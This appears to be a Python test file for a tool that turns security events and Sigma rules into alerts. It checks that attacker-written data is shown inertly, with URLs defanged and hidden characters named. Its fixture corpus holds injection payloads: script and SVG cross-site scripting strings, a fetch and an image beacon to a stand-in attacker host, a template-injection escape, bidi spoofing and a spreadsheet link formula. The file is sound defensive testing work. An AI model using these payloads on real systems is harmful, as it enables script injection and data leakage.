"""Event data is written by attackers: whatever they write, an alert only shows it."""

import re
import time
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sigma2hive.model.alerts import Alert
from tests.alerts.inert import active_parts
from tests.alerts.matches import LOGON, alert_of, atom, event, event_with, match, rule

FIELDS = ("user.name", "source.ip", "host.name", "url.full", "process.executable", "file.path")

CORPUS = {
    "link": "[click me](https://evil.example/login)",
    "reference link": "[a]: https://evil.example/x",
    "image beacon": "![](https://evil.example/beacon.png?host=dc01)",
    "html image": "<img src=https://evil.example/b.png onerror=alert(1)>",
    "script": "<script>fetch('https://evil.example')</script>",
    "svg": "<svg/onload=alert(1)>",
    "iframe": '"><iframe srcdoc="<script>alert(1)</script>">',
    "autolink": "<https://evil.example/x>",
    "bare url": "https://evil.example/login and www.evil.example and ftp://evil.example",
    "links side by side": "http://a.evil.example``http://b.evil.example_www.c.evil.example//d.evil",
    "javascript url": "javascript:alert(1)",
    "mail": "helpdesk@evil.example",
    "entities": "&lt;script&gt; &#60;img&#62;",
    "fence": "```\n\n# Owned\n\n![](https://evil.example/x)\n\n```",
    "long fence": "`" * 50 + "\n<b>x</b>\n" + "`" * 50,
    "tilde fence": "~~~\n<b>x</b>\n~~~",
    "backticks": "`` ` ``` ![](https://evil.example/x) `",
    "only backticks": "`````",
    "table cell": "a | b | ![](https://evil.example/x) | `c`",
    "bar after backslash": "\\| ![](https://evil.example/x) \\\\| <b>",
    "backslashes": "\\" * 7 + "`<b>`" + "\\",
    "heading": "x\n# Heading\n\nSetext\n======\n",
    "quote and list": "x\n> quote\n- item\n1. one\n---\n",
    "html comment": "x <!-- hidden --> y <![CDATA[z]]>",
    "template": "{{ 7*7 }} {% for x in range(10) %}{{ x }}{% endfor %} {# gone #}",
    "template attack": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "simple template": "{host.name} {rule.id} {{event}}",
    "bidi": "invoice\u202egnp.exe",
    "bidi isolate": "\u2066a\u2069\u200f",
    "zero width": "ad\u200bmin\u200d\ufeff\u2060",
    "tag characters": "a\U000e0041\U000e0042",
    "ansi": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x9b1m",
    "nul": "a\x00b",
    "line separators": "a\u2028b\u2029c\x85d\re",
    "lone surrogate": "a\ud800b\udfff",
    "noncharacter": "a\ufffe\uffff",
    "hangul filler": "\u3164\u115f",
    "scheme in odd case": "HtTpS://evil.example xmpp:a@evil.example hTTp://[::1]/",
    "slack mention": "<!channel> <@U123>",
    "spreadsheet": '=HYPERLINK("https://evil.example")',
    "mathml": "$$\\href{https://evil.example}{x}$$",
}


def texts_of(alert: Alert) -> list[str]:
    """Every text of an alert that is shown or sent."""
    texts = [alert.title, alert.description, alert.rule_title, alert.external_link, *alert.tags]
    for entry in alert.observables:
        texts += [entry.data, entry.message, entry.data_type, *entry.tags]
    for left in alert.left_out:
        texts += [left.data, left.reason, left.data_type]
    return texts + [value for value in alert.custom_fields.values() if isinstance(value, str)]


def check_harmless(alert: Alert) -> None:
    assert active_parts(alert.description) == []
    for text in texts_of(alert):
        text.encode("utf-8")  # no lone surrogate
        hidden = [c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")]
        assert set(hidden) <= ({"\n", "\t"} if text is alert.description else set())
    assert not re.search(r"(?i)https?://|www\.[a-z]", alert.title)
    assert 0 < len(alert.title.encode("utf-16-le")) // 2 <= 512
    assert all(0 < len(tag) <= 128 for tag in alert.tags)
    assert all(0 < len(entry.data.encode("utf-16-le")) // 2 <= 4096 for entry in alert.observables)


def hostile_alert(text: str, raw: bytes) -> Alert:
    info = rule(
        title="Logon {x} of",
        fields=("user.name", "url.full"),
        custom={
            "title": "Logon of {user.name} at {{ event['url.full'] }}",
            "tags": ["user:{user.name}"],
            "custom_fields": {"who": "{user.name}"},
        },
    )
    values = {**LOGON, **dict.fromkeys(FIELDS, (text,))}
    seen = match(event_with(values, raw), info=info, reasons=(atom("User", "x", "user.name"),))
    return alert_of(seen)


@pytest.mark.parametrize("text", CORPUS.values(), ids=CORPUS.keys())
def test_hostile_event_data_is_only_shown(text: str) -> None:
    raw = text.encode("utf-8", errors="surrogatepass")
    alert = hostile_alert(text, raw)
    check_harmless(alert)
    assert alert.events[0].raw == raw


@pytest.mark.parametrize("text", CORPUS.values(), ids=CORPUS.keys())
def test_hostile_rule_text_is_only_shown(text: str) -> None:
    info = rule(
        title=text,
        description=text,
        author=text,
        falsepositives=(text,),
        references=(text, f"https://example.org/{text}"),
        tags=(text, f"attack.t1059{text}"),
        fields=(text,),
    )
    seen = match(info=info, reasons=(atom(text or "x", text, text),))
    check_harmless(alert_of(seen))


@given(st.text(st.characters(), max_size=60), st.binary(max_size=60))
@settings(max_examples=60)
def test_any_text_is_only_shown(text: str, raw: bytes) -> None:
    alert = hostile_alert(text, raw)
    check_harmless(alert)


markup = st.text(st.sampled_from("`|\\<>[]()!*_~#&:/.@{}%\n aw\u202e"), max_size=40)


@given(markup, markup)
@settings(max_examples=150)
def test_any_markup_is_only_shown(text: str, raw: str) -> None:
    check_harmless(hostile_alert(text, raw.encode()))


def test_templates_in_events_and_rule_titles_are_not_run() -> None:
    seen = match(event(user__name="{{ 7*7 }}"), info=rule(title="Title {{ 7*7 }} {user.name}"))
    alert = alert_of(seen)
    assert "49" not in alert.title + alert.description
    assert alert.title.startswith("Title {{ 7*7 }} {user.name} on ")
    assert "`{{ 7*7 }}`" in alert.description


def test_an_attacker_sees_no_answer_to_a_beacon_but_an_analyst_sees_the_address() -> None:
    alert = hostile_alert(CORPUS["image beacon"], b"{}")
    assert "hxxps[://]evil[.]example/beacon.png" in alert.description


def test_reordering_characters_are_named_in_title_and_observable() -> None:
    info = rule(custom={"title": "Started {process.executable}"})
    alert = alert_of(match(event(process__executable="C:\\invoice\u202egnp.exe"), info=info))
    assert alert.title == "Started C:\\invoice‹U+202E›gnp.exe"
    (found,) = [entry for entry in alert.observables if entry.data_type == "filename"]
    assert found.data == "invoice‹U+202E›gnp.exe"
    assert "hidden characters" in found.message


def test_ten_megabytes_in_every_place_stay_bounded_and_fast() -> None:
    text = "![x](https://evil.example/`|<b>\u202e" * 300_000
    raw = text.encode()
    started = time.process_time()
    alert = hostile_alert(text, raw)
    assert time.process_time() - started < 5
    check_harmless(alert)
    assert len(alert.description) < 200_000
    assert alert.title.endswith("… [cut]")
    assert "[+9," in alert.description  # how much of the value is not shown
    assert f"this log has {len(raw):,} bytes" in alert.description
    assert alert.events[0].raw == raw
    assert {left.reason for left in alert.left_out} == {"longer than 4,096 characters"}


def test_a_hundred_thousand_values_of_one_field_stay_bounded() -> None:
    names = tuple(f"user{number}" for number in range(100_000))
    alert = alert_of(match(event_with({**LOGON, "user.name": names})))
    assert len(alert.observables) == 500
    assert len(alert.left_out) == 100_000 - 500 + len(LOGON) - 2
    assert "and 99," in alert.description
    check_harmless(alert)
